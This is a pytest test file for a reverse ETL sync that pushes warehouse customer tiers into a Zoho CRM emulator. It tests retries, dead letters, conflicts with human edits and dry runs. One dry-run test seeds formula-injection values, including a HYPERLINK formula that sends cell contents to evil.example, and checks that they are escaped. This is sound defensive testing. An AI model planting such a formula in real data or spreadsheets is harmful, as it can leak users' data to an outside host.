"""Reverse ETL against the emulator (real HTTP on loopback) and a real PostgreSQL warehouse."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest

from tierline import cli, warehouse
from tierline.crm import config as crm_config
from tierline.crm import state, sync
from tierline.errors import ConfigError
from tierline_dev.crm_emulators.configured import zoho_module
from tierline_dev.crm_emulators.zoho import DEFAULT_PERSON, FieldSpec, ModuleSpec

from .sync_support import (
    AS_OF,
    ID_FIELD,
    MODULE,
    UPSERT,
    crm_by_id,
    customer,
    publish,
    query,
    settings_with,
)

NEXT_DAY = AS_OF + timedelta(days=1)


@pytest.fixture
def cfg(tmp_path) -> crm_config.Settings:
    """Upsert mode, matched on Tierline_Customer_Id: these tests are about writing, so they let it create."""
    return settings_with(tmp_path, push=UPSERT)


@pytest.fixture
def crm(crm, cfg):
    crm.define_module(MODULE, zoho_module(cfg))
    return crm


@pytest.fixture
def run(wh, connector, cfg, tmp_path):
    """One sync run: ``run()``; keyword arguments override the sync's."""

    def run_sync(**kwargs):
        options = {"warehouse_url": wh, "connector": connector, "cfg": cfg, "out_dir": tmp_path / "dry", **kwargs}
        return sync.sync(**options)

    return run_sync


def test_first_sync_creates_every_record_with_the_mapped_values(crm, wh, run):
    publish(wh, [
        customer(1, tier="vip", churn_risk=0.04321, predicted_clv=18250.5),
        customer(2, tier="key", lifecycle_stage="declining", churn_risk=0.75),
        customer(3, tier="potential", lifecycle_stage="prospect", churn_risk=None, predicted_clv=None,
                 account_manager_id=None, tier_reason="x" * 300),
    ])

    result = run()

    assert result["status"] == "ok"
    assert (result["plan"]["creates"], result["push"]["created"]) == (3, 3)
    stored = crm_by_id(crm)
    assert len(crm.records(MODULE)) == 3
    vip = stored["C00001"]
    assert (vip["Tierline_Tier"], vip["Tierline_Lifecycle_Stage"]) == ("VIP", "Mature")
    assert (vip["Tierline_Churn_Risk"], vip["Tierline_Predicted_CLV"]) == (0.043, 18250.0)
    assert vip["Tierline_Next_Action"] == "VIP: call within 7 days"
    assert vip["Tierline_Account_Manager"] == "M01"
    assert vip["Account_Name"] == "Tierline customer C00001"
    assert stored["C00002"]["Tierline_Next_Action"] == "Key account at risk: call within 3 days"
    prospect = stored["C00003"]
    assert (prospect["Tierline_Tier"], prospect["Tierline_Lifecycle_Stage"]) == ("Potential", "Prospect")
    assert prospect.get("Tierline_Churn_Risk") is None and prospect.get("Tierline_Next_Action") is None
    assert len(prospect["Tierline_Tier_Reason"]) == 255 and prospect["Tierline_Tier_Reason"].endswith("…")
    state = dict(query(wh, "select customer_id, crm_id from crm_sync.record_state"))
    assert state == {cid: record["id"] for cid, record in stored.items()}
    assert result["reconcile"]["mismatch_count"] == 0
    assert query(wh, "select count(*) from crm_sync.record_state where crm_modified_at is null") == [(0,)]


def test_429_with_retry_after_waits_that_long_and_completes(crm, wh, run, sleeps):
    publish(wh, [customer(n) for n in range(1, 4)])
    crm.rate_limit_next(2, retry_after=7, match="upsert")

    result = run()

    assert result["status"] == "ok" and len(crm.records(MODULE)) == 3
    assert sleeps.waits == [7.0, 7.0]


def test_429_without_retry_after_backs_off_with_jitter_and_completes(crm, wh, run, sleeps):
    publish(wh, [customer(n) for n in range(1, 4)])
    crm.rate_limit_next(3, match="upsert")

    result = run()

    assert result["status"] == "ok" and len(crm.records(MODULE)) == 3
    assert len(sleeps.waits) == 3
    assert all(0 <= wait <= cap for wait, cap in zip(sleeps.waits, [0.5, 1.0, 2.0], strict=True))


def test_server_errors_are_retried(crm, wh, run):
    publish(wh, [customer(n) for n in range(1, 4)])
    crm.fail_next(2, 503, match="upsert")
    crm.fail_next(1, 500, match="GET /crm/v8/Accounts")

    result = run()

    assert result["status"] == "ok" and len(crm.records(MODULE)) == 3
    assert crm.counters()["statuses"]["503"] == 2


def test_a_timed_out_upsert_is_retried_without_creating_duplicates(crm, wh, make_connector, cfg, tmp_path):
    publish(wh, [customer(n) for n in range(1, 4)])
    crm.delay_next(1.0, match="upsert")
    connector = make_connector(timeout=0.3)

    result = sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)

    assert result["status"] == "ok"
    assert crm.counters()["write_calls"] == 2  # the CRM took the first attempt too
    assert sorted(crm_by_id(crm)) == ["C00001", "C00002", "C00003"]
    assert len(crm.records(MODULE)) == 3


def test_a_persistent_rate_limit_stops_cleanly_and_the_next_run_sends_the_rest(crm, wh, run, cfg):
    publish(wh, [customer(n) for n in range(1, 251)])
    # current user, the change read and one upsert fit in the window; the second upsert does not.
    crm.set_rate_limit(3, window_seconds=600)

    stopped = run()

    assert stopped["status"] == "stopped"
    assert "CrmRateLimited" in stopped["push"]["stopped_reason"]
    assert (stopped["push"]["sent"], stopped["push"]["unsent"]) == (100, 150)
    assert query(wh, "select count(*) from crm_sync.record_state") == [(100,)]
    assert query(wh, "select count(*) from crm_sync.outbox") == [(150,)]
    assert len(crm.records(MODULE)) == 100

    crm.set_rate_limit(None)
    crm.reset_counters()
    finished = run()

    assert finished["status"] == "ok"
    assert finished["plan"]["creates"] == 150
    assert crm.counters()["records_written"] == 150
    assert len(crm.records(MODULE)) == len(crm_by_id(crm)) == 250


def test_a_crm_outage_stops_the_push_without_losing_anything(crm, wh, run):
    publish(wh, [customer(n) for n in range(1, 4)])
    crm.fail_next(4, 503, match="upsert")  # the first upsert and its three retries

    stopped = run()
    finished = run()

    assert stopped["status"] == "stopped" and "CrmUnavailable" in stopped["push"]["stopped_reason"]
    assert stopped["push"]["unsent"] == 3
    assert finished["status"] == "ok" and len(crm_by_id(crm)) == 3


def test_records_the_crm_refuses_become_dead_letters(crm, wh, run, cfg):
    spec = zoho_module(cfg)
    # The CRM admins have not added "Potential" to the tier picklist yet.
    fields = {**spec.fields, "Tierline_Tier": FieldSpec("picklist", values=("Strategic", "VIP", "Key", "Regular"))}
    crm.define_module(MODULE, ModuleSpec(fields, spec.system_duplicate_check))
    crm.reject_records(["C00004"], field="Tierline_Churn_Risk", message="value fails a validation rule")
    publish(wh, [customer(1), customer(2, tier="potential"), customer(3), customer(4)])

    result = run()

    assert result["push"]["dead_lettered"] == 2 and result["dead_letters"] == 2
    assert sorted(crm_by_id(crm)) == ["C00001", "C00003"]
    letters = {r[0]: r[1:] for r in query(
        wh, "select customer_id, error_code, field, attempts, message from crm_sync.dead_letters")}
    assert letters["C00002"][:3] == ("INVALID_DATA", "Tierline_Tier", 1)
    assert letters["C00004"] == ("INVALID_DATA", "Tierline_Churn_Risk", 1, "value fails a validation rule")
    assert sorted(r[0] for r in query(wh, "select customer_id from crm_sync.record_state")) == ["C00001", "C00003"]


def test_a_whole_batch_rejection_is_split_until_the_bad_record_is_alone(crm, wh, run):
    publish(wh, [customer(n) for n in range(1, 11)])
    crm.reject_batches(containing=["C00006"])

    result = run()

    assert sorted(crm_by_id(crm)) == [f"C{n:05d}" for n in range(1, 11) if n != 6]
    assert query(wh, "select customer_id, error_code, field from crm_sync.dead_letters") == [
        ("C00006", "INVALID_DATA", ID_FIELD)]
    # 10 refused -> 5 clean + 5 refused -> 2 refused + 3 clean -> 1 refused (the bad one) + 1 clean
    assert result["push"]["split_batches"] == 3
    assert crm.counters()["write_calls"] == result["push"]["write_calls"] == 7


def test_dead_letters_wait_for_a_retry_which_clears_them_on_success(crm, wh, run, cfg, monkeypatch, tmp_path,
                                                                    capsys):
    spec = zoho_module(cfg)
    narrow = {**spec.fields, "Tierline_Tier": FieldSpec("picklist", values=("Strategic", "VIP", "Key", "Regular"))}
    crm.define_module(MODULE, ModuleSpec(narrow, spec.system_duplicate_check))
    publish(wh, [customer(1), customer(2, tier="potential")])
    run()
    crm.reset_counters()

    unchanged = run()

    assert unchanged["plan"]["held_by_dead_letters"] == 1 and crm.counters()["write_calls"] == 0
    # The admins add the missing picklist value; the operator replays the dead letters.
    crm.define_module(MODULE, spec)
    for name, value in {**crm.env(), crm_config.ENV_CONFIG: str(cfg.path)}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("TIERLINE_HOME", str(tmp_path))

    assert cli.main(["crm-retry"]) == 0

    assert json.loads(capsys.readouterr().out)["push"]["created"] == 1
    assert crm_by_id(crm)["C00002"]["Tierline_Tier"] == "Potential"
    assert query(wh, "select count(*) from crm_sync.dead_letters") == [(0,)]
    assert crm.counters()["write_calls"] == 1


def test_an_unmapped_code_is_a_dead_letter_without_a_crm_call(crm, wh, run):
    publish(wh, [customer(1), customer(2, tier="diamond")])

    result = run()

    assert result["plan"]["mapping_errors"] == 1
    assert crm.counters()["records_written"] == 1
    assert query(wh, "select customer_id, error_code, field from crm_sync.dead_letters") == [
        ("C00002", "UNMAPPED_VALUE", "Tierline_Tier")]


def test_dry_run_writes_the_planned_changes_and_changes_nothing(crm, wh, run, cfg, monkeypatch, tmp_path, capsys):
    rows = [customer(n) for n in range(1, 4)]
    publish(wh, rows)
    run()
    rows[0] = customer(1, tier="vip")
    rows.append(customer(4))
    publish(wh, rows, NEXT_DAY)
    tables = ("record_state", "outbox", "dead_letters", "conflicts", "reconciliation", "runs", "sync_watermarks")
    before = {t: query(wh, f"select * from crm_sync.{t} order by 1") for t in tables}
    crm.reset_counters()
    for name, value in {**crm.env(), crm_config.ENV_CONFIG: str(cfg.path)}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("TIERLINE_HOME", str(tmp_path))

    assert cli.main(["crm-sync", "--dry-run"]) == 0

    printed = json.loads(capsys.readouterr().out)
    assert printed["status"] == "dry_run"
    [path] = (tmp_path / "crm").glob("dry_run_*.jsonl")
    assert str(path) == printed["dry_run_file"]
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert lines[0]["kind"] == "summary" and (lines[0]["creates"], lines[0]["updates"]) == (1, 1)
    by_customer = {line["customer_id"]: line for line in lines[1:]}
    assert by_customer["C00001"]["kind"] == "update"
    assert by_customer["C00001"]["changes"]["Tierline_Tier"] == {"old": "Regular", "new": "VIP"}
    assert by_customer["C00004"]["kind"] == "create"
    assert by_customer["C00004"]["changes"]["Tierline_Tier"] == {"old": None, "new": "Regular"}
    assert by_customer["C00004"]["also_sent"]["Account_Name"] == "Tierline customer C00004"
    assert crm.counters()["write_calls"] == 0
    assert {t: query(wh, f"select * from crm_sync.{t} order by 1") for t in tables} == before
    assert crm_by_id(crm)["C00001"]["Tierline_Tier"] == "Regular"


def test_a_dry_run_plan_is_safe_to_open_in_a_spreadsheet(crm, wh, cfg, monkeypatch, tmp_path, capsys):
    """Issue 12 item 6: a value from the data that a spreadsheet would run as a formula is plain text."""
    publish(wh, [customer(1, tier_reason='=HYPERLINK("http://evil.example/?"&A1,"click")'),
                 customer(2, tier_reason="@SUM(1+1)"), customer(3)])
    for name, value in {**crm.env(), crm_config.ENV_CONFIG: str(cfg.path)}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("TIERLINE_HOME", str(tmp_path))

    assert cli.main(["crm-sync", "--dry-run"]) == 0

    path = json.loads(capsys.readouterr().out)["dry_run_file"]
    by_customer = {line["customer_id"]: line for line in map(json.loads, open(path, encoding="utf-8"))
                   if "customer_id" in line}
    reasons = {c: line["changes"]["Tierline_Tier_Reason"]["new"] for c, line in by_customer.items()}
    assert reasons["C00001"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert reasons["C00002"] == "'@SUM(1+1)"
    assert reasons["C00003"] == customer(3)["tier_reason"]
    assert by_customer["C00003"]["changes"]["Tierline_Churn_Risk"]["new"] == 0.123  # numbers stay numbers


def test_a_persons_edit_is_recorded_as_a_conflict_and_not_overwritten(crm, wh, run):
    rows = [customer(1), customer(2)]
    publish(wh, rows)
    run()
    crm.person_edits(MODULE, "C00001", {"Tierline_Tier": "Strategic"})
    rows[0] = customer(1, tier="vip")
    publish(wh, rows, NEXT_DAY)
    crm.reset_counters()

    result = run()

    record = crm_by_id(crm)["C00001"]
    assert record["Tierline_Tier"] == "Strategic"
    assert record["Tierline_Next_Action"] == "VIP: call within 7 days"  # the rest of the change went through
    assert query(wh, "select customer_id, field, our_value, their_value, their_editor, resolved_at "
                     "from crm_sync.conflicts") == [
        ("C00001", "Tierline_Tier", "VIP", "Strategic", DEFAULT_PERSON["name"], None)]
    assert result["open_conflicts"] == 1
    assert crm.counters()["records_written"] == 1

    crm.reset_counters()
    again = run()

    assert crm.counters()["write_calls"] == 0
    assert again["plan"]["new_conflicts"] == 0 and query(wh, "select count(*) from crm_sync.conflicts") == [(1,)]

    rows[0] = customer(1, tier="strategic")
    publish(wh, rows, NEXT_DAY + timedelta(days=1))
    agreed = run()

    assert agreed["plan"]["conflicts_resolved_by_agreement"] == 1
    assert query(wh, "select resolution from crm_sync.conflicts") == [("agreed",)]
    assert crm_by_id(crm)["C00001"]["Tierline_Tier"] == "Strategic"


def test_a_persons_edit_seen_while_the_record_is_not_written_is_still_protected_later(crm, wh, run):
    publish(wh, [customer(1)])
    run()
    crm.person_edits(MODULE, "C00001", {"Tierline_Tier": "Key"})
    publish(wh, [customer(1, tier="diamond")], NEXT_DAY)
    skipped = run()  # the edit is read now, but the record cannot be mapped this run
    assert skipped["plan"]["mapping_errors"] == 1 and skipped["plan"]["new_conflicts"] == 0

    publish(wh, [customer(1, tier="vip")], NEXT_DAY + timedelta(days=1))
    result = run()

    assert result["plan"]["new_conflicts"] == 1
    assert crm_by_id(crm)["C00001"]["Tierline_Tier"] == "Key"
    assert query(wh, "select their_value, their_editor from crm_sync.conflicts") == [("Key", DEFAULT_PERSON["name"])]


def test_a_released_conflict_lets_the_next_sync_overwrite(crm, wh, run):
    publish(wh, [customer(1)])
    run()
    crm.person_edits(MODULE, "C00001", {"Tierline_Tier": "Key"})
    run()
    assert crm_by_id(crm)["C00001"]["Tierline_Tier"] == "Key"

    query(wh, "update crm_sync.conflicts set resolved_at = now(), resolution = 'released' returning 1")
    result = run()

    assert result["plan"]["updates"] == 1
    assert crm_by_id(crm)["C00001"]["Tierline_Tier"] == "Regular"


def test_an_unprotected_field_is_overwritten_without_a_conflict(crm, wh, connector, tmp_path):
    cfg = settings_with(tmp_path, {"Tierline_Next_Action": {"protect_human_edits": False}}, push=UPSERT)
    publish(wh, [customer(1, lifecycle_stage="new")])
    sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)
    crm.person_edits(MODULE, "C00001", {"Tierline_Next_Action": "called on Monday"})

    result = sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)

    assert crm_by_id(crm)["C00001"]["Tierline_Next_Action"] == "Welcome call within 30 days"
    assert result["plan"]["new_conflicts"] == 0 and result["plan"]["updates"] == 1


def test_fill_if_empty_fills_a_gap_once_and_then_leaves_the_field_to_people(crm, wh, run, connector):
    # C00002 was in the CRM before the first sync, with a manager a person set.
    connector.upsert(MODULE, [{ID_FIELD: "C00002", "Account_Name": "Existing account",
                               "Tierline_Account_Manager": "M77"}], ID_FIELD)
    crm.person_edits(MODULE, "C00002", {"Phone": "+86 10 1234 5678"})
    rows = [customer(1), customer(2)]
    publish(wh, rows)

    first = run()

    stored = crm_by_id(crm)
    assert (stored["C00001"]["Tierline_Account_Manager"], stored["C00002"]["Tierline_Account_Manager"]) == (
        "M01", "M77")
    assert stored["C00002"]["Account_Name"] == "Existing account"  # an update, not a create
    assert (first["plan"]["creates"], first["plan"]["updates"]) == (1, 1)

    publish(wh, [customer(1, account_manager_id="M02"), customer(2, account_manager_id="M02")], NEXT_DAY)
    crm.reset_counters()
    unchanged = run()

    assert crm.counters()["write_calls"] == 0 and unchanged["plan"]["updates"] == 0
    assert crm_by_id(crm)["C00001"]["Tierline_Account_Manager"] == "M01"

    crm.person_edits(MODULE, "C00001", {"Tierline_Account_Manager": None})
    run()

    assert crm_by_id(crm)["C00001"]["Tierline_Account_Manager"] == "M02"
    assert query(wh, "select count(*) from crm_sync.conflicts") == [(0,)]


def test_reconciliation_reports_a_value_the_crm_changed_after_our_write(crm, wh, connector, cfg):
    publish(wh, [customer(1), customer(2)])
    run_id = "manual__reconcile"

    sync.plan_step(run_id, warehouse_url=wh, connector=connector, cfg=cfg)
    pushed = sync.push_step(run_id, warehouse_url=wh, connector=connector, cfg=cfg)
    crm.person_edits(MODULE, "C00002", {"Tierline_Lifecycle_Stage": "Dormant"})
    result = sync.reconcile_step(run_id, warehouse_url=wh, connector=connector, cfg=cfg)

    assert pushed.created == 2
    assert result["checked"] == 2 and result["mismatch_count"] == 1
    [mismatch] = result["mismatches"]
    assert (mismatch["customer_id"], mismatch["field"], mismatch["expected"], mismatch["actual"]) == (
        "C00002", "Tierline_Lifecycle_Stage", "Mature", "Dormant")
    assert query(wh, "select customer_id, field, expected, actual, crm_modified_by from crm_sync.reconciliation") == [
        ("C00002", "Tierline_Lifecycle_Stage", "Mature", "Dormant", DEFAULT_PERSON["name"])]
    assert query(wh, "select status from crm_sync.runs where run_id = %s", run_id) == [("mismatches",)]

    # The next run still sees the person's edit: a conflict, not an overwrite.
    later = sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)
    assert later["plan"]["new_conflicts"] == 1
    assert crm_by_id(crm)["C00002"]["Tierline_Lifecycle_Stage"] == "Dormant"


def test_config_errors_name_the_key_and_what_is_allowed(tmp_path):
    with pytest.raises(ConfigError) as raised:
        settings_with(tmp_path, {"Tierline_Next_Action": {"ownership": "sometimes"}})

    message = str(raised.value)
    assert "push.fields.Tierline_Next_Action.ownership" in message and "'overwrite' or 'fill_if_empty'" in message
    # Checks against the tier spec and the published columns report every problem at once.
    with pytest.raises(ConfigError) as raised:
        settings_with(tmp_path, {
            "Tierline_Tier": {"value_map": {"strategic": "Strategic", "vip": "VIP"}},
            "Tierline_Churn_Risk": {"column": "churn_riks"},
            "Tierline_Lifecycle_Stage": {"value_map": None},
        })

    message = str(raised.value)
    assert "push.fields.Tierline_Tier.value_map: no label for key, regular, potential" in message
    assert "push.fields.Tierline_Churn_Risk.column: unknown column 'churn_riks'" in message
    assert "push.fields.Tierline_Lifecycle_Stage.value_map: a picklist field needs a value_map" in message


def test_sync_mode_errors_name_the_key(tmp_path):
    with pytest.raises(ConfigError) as raised:
        settings_with(tmp_path, push={"mode": "upsert", "create_fields": {"Industry": "x"}})
    message = str(raised.value)
    assert "push.match.crm_field: upsert mode creates records, so it matches on a unique field" in message
    assert "push.create_fields: upsert mode creates Accounts records, which zoho requires Account_Name for" in message

    with pytest.raises(ConfigError, match="push.create_fields: only used when push.mode is upsert"):
        settings_with(tmp_path, push={"create_fields": {"Account_Name": "{customer_id}"}})
    with pytest.raises(ConfigError, match="push.mode"):
        settings_with(tmp_path, push={"mode": "insert"})
    with pytest.raises(ConfigError, match="push.match.column: unknown column 'crm_id'"):
        settings_with(tmp_path, push={"match": {"crm_field": "id", "column": "crm_id"}})


def test_state_of_one_provider_is_not_used_for_another(wh, cfg, connector, crm):
    publish(wh, [customer(1)])
    sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)
    with warehouse.connect(wh, autocommit=True) as conn:
        with pytest.raises(ConfigError, match="holds the sync state of a zoho CRM .* now names fxiaoke"):
            state.ensure(conn, "fxiaoke")


def test_a_second_sync_of_the_module_waits_its_turn(crm, wh, connector, cfg):
    publish(wh, [customer(1)])
    with warehouse.connect(wh, autocommit=True) as other:
        state.ensure(other, "zoho")
        with state.run_lock(other, MODULE), pytest.raises(state.Busy):
            sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)

    assert crm.counters()["write_calls"] == 0
    assert sync.sync(warehouse_url=wh, connector=connector, cfg=cfg)["status"] == "ok"


def test_the_dag_syncs_the_date_its_asset_event_published_unless_a_later_one_is(crm, wh, connector, cfg):
    publish(wh, [customer(1, tier="vip")], as_of=AS_OF)
    publish(wh, [customer(1, tier="key")], as_of=NEXT_DAY)
    session = {"warehouse_url": wh, "connector": connector, "cfg": cfg}

    pinned = sync.plan_step("asset__one", as_of=NEXT_DAY.isoformat(), **session)
    assert pinned["as_of_date"] == NEXT_DAY.isoformat() and "superseded_event_date" not in pinned
    # a backfill publishes an older date after a newer one: the CRM keeps the newer state
    older = sync.plan_step("asset__backfill", as_of=AS_OF.isoformat(), **session)
    assert older["as_of_date"] == NEXT_DAY.isoformat()
    assert older["superseded_event_date"] == AS_OF.isoformat()
